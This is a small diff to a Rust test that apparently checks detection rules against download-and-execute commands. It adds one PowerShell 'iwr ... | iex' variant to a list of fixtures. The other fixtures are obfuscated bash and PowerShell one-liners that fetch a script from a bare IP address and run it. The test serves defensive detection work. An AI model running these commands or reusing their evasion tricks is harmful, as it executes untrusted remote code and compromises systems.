@@ -63,6 +63,7 @@ fn what_a_nameless_host_serves_is_run_however_it_is_written() {
         "iwr http://203.0.113.9/x.ps1 | iex",
         "iex ((New-Object Net.WebClient).DownloadString('http://203.0.113.9/x.ps1'))",
         "powershell -c \"& { $(curl.exe -s http://203.0.113.9/x.ps1) }\"",
+        "powershell -Command 'iwr http://203.0.113.9/x.ps1 | iex'",
         "${IFS+curl} http://203.0.113.9/x; V=curlx; ${V%x} 203.0.113.9/y; W=curlx; ${W:0:4} http://203.0.113.9/z | sh",
     ] {
         let found = rules(text);
